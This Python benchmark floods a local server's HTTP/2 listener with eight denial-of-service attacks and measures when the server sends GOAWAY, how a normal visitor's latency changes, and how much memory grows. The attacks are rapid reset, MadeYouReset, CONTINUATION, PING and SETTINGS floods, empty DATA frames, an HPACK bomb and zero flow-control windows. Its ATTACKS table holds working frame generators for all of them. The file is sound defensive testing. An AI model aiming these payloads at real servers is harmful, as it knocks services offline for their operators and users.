"""Attacks over HTTP/2 beside a visitor who behaves: how soon each attacking connection is told to go, what the visitor notices, and what the
attack takes of memory. Only when named."""

import contextlib
import multiprocessing
import os
import socket
import struct
import time

import boto3
from frontage import OWNER, Server

from contest import LOAD_CORE, SERVER_CORE, pinned

HOST = "www.example.localhost"
PAGE = bytes(1024)
SECONDS = 6
CONNECTIONS = 8

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings(**values):
    numbers = {"table": 1, "streams": 3, "window": 4, "frame": 5}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items()))


def literal(name, value):
    """A header field that is not indexed, without Huffman coding (RFC 7541 section 6.2.2); both shorter than 127 bytes."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


# :method GET, :scheme http, :path /, :authority.
GET = b"\x82\x86\x84" + literal(b":authority", HOST.encode())


def streams(first=1):
    return range(first, 2**31, 2)


def endless(chunk):
    while True:
        yield chunk


def each_stream(frames, batch=64):
    """What is sent on stream after stream, many streams at once."""
    numbers = iter(streams())
    while True:
        yield b"".join(frames(next(numbers)) for _ in range(batch))


def continuation():
    yield frame(HEADERS, 0, 1, GET)
    yield from endless(frame(CONTINUATION, 0, 1, literal(b"x-padding", b"a" * 100) * 8) * 8)


def header_bomb():
    """Enters one long field and refers to it as often as a block may (RFC 7541 section 7.3)."""
    name = b"\x40" + bytes((9,)) + b"x-padding" + b"\x7f\x81\x1e" + b"a" * 3968
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + name)
    numbers = iter(streams(3))
    while True:
        yield frame(HEADERS, END_STREAM | END_HEADERS, next(numbers), GET + b"\xbe" * 16_000)


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, b"\x83" + GET[1:])
    yield from endless(frame(DATA, 0, 1) * 256)


def shut_windows():
    """Asks for much and takes nothing."""
    yield settings(window=0)
    for batch in each_stream(lambda n: frame(HEADERS, END_STREAM | END_HEADERS, n, GET)):
        yield batch


ATTACKS = {
    "rapid reset": lambda: each_stream(
        lambda n: frame(HEADERS, END_STREAM | END_HEADERS, n, GET) + frame(RST_STREAM, 0, n, struct.pack(">I", 8))),
    "MadeYouReset": lambda: each_stream(
        lambda n: frame(HEADERS, END_STREAM | END_HEADERS, n, GET) + frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0))),
    "CONTINUATION without end": continuation,
    "PING": lambda: endless(frame(PING, 0, 0, bytes(8)) * 128),
    "SETTINGS": lambda: endless(settings(window=65535) * 128),
    "empty DATA": empty_data,
    "HPACK bomb": header_bomb,
    "shut windows": shut_windows,
}


def attack(port, name, until, results):
    """Opens connections one after the other, and says how many there were and how long the slowest lasted until it was told to go."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    count, slowest = 0, 0.0
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
            connection.sendall(PREFACE + settings())
            began = time.monotonic()
            told = wait_for_goaway(connection, ATTACKS[name](), until)
            if told:
                count, slowest = count + 1, max(slowest, told - began)
    results.put((count, slowest))


def wait_for_goaway(connection, flood, until):
    """When GOAWAY came, or the end of the connection; None when the time was over before."""
    received = b""
    connection.settimeout(0.02)
    for chunk in flood:
        if time.monotonic() > until:
            return None
        try:
            connection.sendall(chunk)
        except TimeoutError:
            pass
        except OSError:
            return time.monotonic()
        try:
            while data := connection.recv(1 << 20, socket.MSG_DONTWAIT):
                received += data
                received, is_told = read_frames(received)
                if is_told:
                    return time.monotonic()
            return time.monotonic()
        except BlockingIOError:
            continue
        except OSError:
            return time.monotonic()
    return None


def read_frames(received):
    """The rest that is no whole frame, and whether there was a GOAWAY."""
    while len(received) >= 9:
        length = int.from_bytes(received[:3])
        if len(received) < 9 + length:
            break
        if received[3] == GOAWAY:
            return received, True
        received = received[9 + length:]
    return received, False


def visit(port, seconds):
    """Visits one after the other on one connection; their times in milliseconds, in order."""
    # On the core that they share, the visitor goes before the attackers: what is measured is the server.
    with contextlib.suppress(PermissionError):
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    times = []
    request = f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            began = time.monotonic()
            connection.sendall(request)
            answer = b""
            while len(answer.partition(b"\r\n\r\n")[2]) < len(PAGE):
                data = connection.recv(65536)
                if not data:
                    raise RuntimeError("the visitor was cut off")
                answer += data
            if not answer.startswith(b"HTTP/1.1 200"):
                raise RuntimeError(answer[:200])
            times.append((time.monotonic() - began) * 1000)
            time.sleep(0.001)
    return sorted(times)


def p99(times):
    return times[len(times) * 99 // 100]


def measure(directory):
    os.sched_setaffinity(0, {LOAD_CORE})
    server = Server(directory / "server", {"threads": 1, "web": {"h2c": True}}, prefix=pinned(SERVER_CORE)).start()
    table = []
    try:
        s3 = boto3.client("s3", endpoint_url=server.api, aws_access_key_id=OWNER.access_key, aws_secret_access_key=OWNER.secret_key,
                          region_name="us-east-1")
        s3.create_bucket(Bucket=HOST)
        s3.put_bucket_website(Bucket=HOST, WebsiteConfiguration={"IndexDocument": {"Suffix": "index.html"}})
        s3.put_object(Bucket=HOST, Key="index.html", Body=PAGE, ACL="public-read")
        visit(server.web_port, 1)
        for name in ATTACKS:
            quiet = visit(server.web_port, SECONDS)
            before = server.resident_mebibytes()
            results = multiprocessing.Queue()
            until = time.monotonic() + SECONDS + 1
            attackers = [multiprocessing.Process(target=attack, args=(server.web_port, name, until, results)) for _ in range(CONNECTIONS)]
            for attacker in attackers:
                attacker.start()
            time.sleep(0.5)
            beside = visit(server.web_port, SECONDS)
            after = server.resident_mebibytes()
            counts = [results.get(timeout=30) for _ in attackers]
            for attacker in attackers:
                attacker.join()
            ended = sum(count for count, _ in counts)
            table.append((
                name, f"{ended:,}", f"{max(slowest for _, slowest in counts) * 1000:.0f} ms" if ended else "-",
                f"{p99(quiet):.2f} ms", f"{p99(beside):.2f} ms", f"{p99(beside) / p99(quiet):.1f}", f"{after - before:+.0f} MiB"))
    finally:
        server.stop()
    columns = ("attack", "connections ended", "the last after", "visitor's p99 quiet", "beside it", "ratio", "memory")
    return f"Attacks over HTTP/2 without TLS from {CONNECTIONS} connections at a time, beside a visitor over HTTP/1.1", columns, table
